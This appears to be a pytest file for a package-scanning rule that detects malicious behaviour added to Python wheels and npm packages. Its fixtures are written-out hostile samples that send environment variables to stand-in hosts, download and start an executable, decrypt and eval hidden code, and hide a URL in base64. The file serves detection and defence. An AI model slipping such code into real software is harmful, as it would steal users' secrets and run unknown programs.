"""Behaviour of attacks that the baseline does not have."""

import pytest

from pratique.analysis.chains.finding import MOST_CHAINS
from pratique.core.finding import Confidence, Severity
from tests.analysis.inspecting import npm, of_rule, package_json, wheel

RULE = "attack-gained"
CALM = {"sample/__init__.py": "class Box(dict):\n    pass\n"}
DUMPS = """import os

import requests


class Box(dict):
    def __init__(self):
        super().__init__()
        requests.get("https://sink.pratique.invalid/?" + str(dict(os.environ)))
"""
DOWNLOADS = """import subprocess
import urllib.request


def use(model):
    urllib.request.urlretrieve("https://files.pratique.invalid/marker.exe", "marker.exe")
    return subprocess.Popen(["marker.exe"])
"""
LOADS = """exports.map = function (name) {
  const {createDecipheriv} = require('crypto');
  const d = createDecipheriv('aes-256-cbc', key, iv);
  return eval(d.update(name, 'hex', 'utf8') + d.final('utf8'));
};
"""
HIDES = """const https = require('https');
exports.plan = function () {
  setTimeout(() => https.get(Buffer.from('aHR0cHM6Ly93aGVyZS5wcmF0aXF1ZS5pbnZhbGlkL21hcmtlcg==', 'base64').toString()), 9);
};
"""


def test_an_environment_that_is_sent_to_a_new_host_when_a_class_is_made_is_held() -> None:
    (finding,) = of_rule(wheel({"sample/__init__.py": DUMPS}, CALM), RULE)
    assert (Severity.CRITICAL, Confidence.MEDIUM) == (finding.severity, finding.confidence)
    assert "when called it reads all environment variables and sends data" in finding.message
    assert "sink.pratique.invalid" in finding.message
    assert "sample/__init__.py:9" == str(finding.locations[0])


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (DUMPS, DUMPS + "# more\n"),
        ("HOME = 'https://sink.pratique.invalid/'\n", DUMPS),
        ("pass\n", DUMPS.replace("dict(os.environ)", "os.environ['SAMPLE_KEY']")),
        ("pass\n", DUMPS.replace("https://sink.pratique.invalid/?", "http://127.0.0.1/?")),
        ("pass\n", DUMPS.replace('"https://sink.pratique.invalid/?"', "self.address")),
    ],
    ids=["done before", "to a host known before", "one variable", "to this machine", "to no constant host"],
)
def test_what_is_no_news_or_ordinary_stays_quiet(before: str, after: str) -> None:
    assert [] == of_rule(wheel({"sample/__init__.py": after}, {"sample/__init__.py": before}), RULE)


def test_a_program_that_is_fetched_and_started_when_something_is_used_is_held() -> None:
    found = of_rule(wheel({"sample/__init__.py": DOWNLOADS}, CALM), RULE)
    assert ["sample/__init__.py:7"] * len(found) == [str(finding.locations[0]) for finding in found]
    assert any("starts a program with it" in finding.message for finding in found)


def test_data_that_is_decrypted_and_run_when_a_function_is_called_is_held() -> None:
    (finding,) = of_rule(npm({"index.js": LOADS}, {"index.js": "exports.map = x => x\n"}), RULE)
    assert "runs decrypted data as code" in finding.message


def test_an_address_that_is_hidden_in_an_encoding_is_held() -> None:
    (finding, *_) = of_rule(npm({"index.js": HIDES}, {"index.js": "exports.plan = () => 1\n"}), RULE)
    assert "where.pratique.invalid" in finding.message


def test_a_command_is_code_that_people_run() -> None:
    def package(code: str) -> dict[str, str]:
        return {"package.json": package_json(bin={"sample": "cli.js"}), "cli.js": code}

    runs = (
        "const {createDecipheriv} = require('crypto');\nconst d = createDecipheriv('aes-256-cbc', key, iv);\n"
    )
    runs += "eval(d.update(name, 'hex', 'utf8') + d.final('utf8'));\n"
    (finding,) = of_rule(npm(package(runs), package("1\n")), RULE)
    assert "when its file is loaded it runs decrypted data as code" in finding.message


def test_code_that_no_entry_reaches_stays_quiet() -> None:
    calm = {"index.js": "exports.map = x => x\n"}
    assert [] == of_rule(npm({**calm, "scripts/build.js": LOADS}, calm), RULE)


def test_without_a_baseline_it_does_not_apply() -> None:
    done = npm({"index.js": LOADS})
    assert RULE not in done.inspection.ran
    assert [] == of_rule(done, RULE)


SENDS = """const https = require('https');
exports.go = function () {
  const asked = https.request({hostname: 'sink.elsewhere.dev', path: '/x', method: 'POST'});
  asked.end(JSON.stringify(process.env));
};
"""


def test_no_manifest_old_or_new_makes_a_host_one_that_may_get_the_environment() -> None:
    def package(home: str, code: str) -> dict[str, str]:
        return {"package.json": package_json(main="index.js", homepage=home), "index.js": code}

    calm, theirs, ours = "exports.go = () => 1\n", "https://www.elsewhere.dev/", "https://sample-project.dev/"
    for before in (ours, theirs):
        (finding,) = of_rule(npm(package(theirs, SENDS), package(before, calm)), RULE)
        assert "sink.elsewhere.dev" in finding.message


def test_files_full_of_what_is_no_attack_hide_none() -> None:
    calm = {"index.js": "exports.go = () => 1\n"}
    harmless = {
        f"lib/a{n:03}.js": f"exports.run = () => eval(Buffer.from(process.argv[{n}], 'base64').toString());\n"
        for n in range(MOST_CHAINS + 10)
    }
    asks = "".join(f"require('./{path}');\n" for path in (*harmless, "lib/z.js"))
    (finding, *_) = of_rule(npm({"index.js": asks, **harmless, "lib/z.js": LOADS}, calm), RULE)
    assert "lib/z.js" == finding.locations[0].path
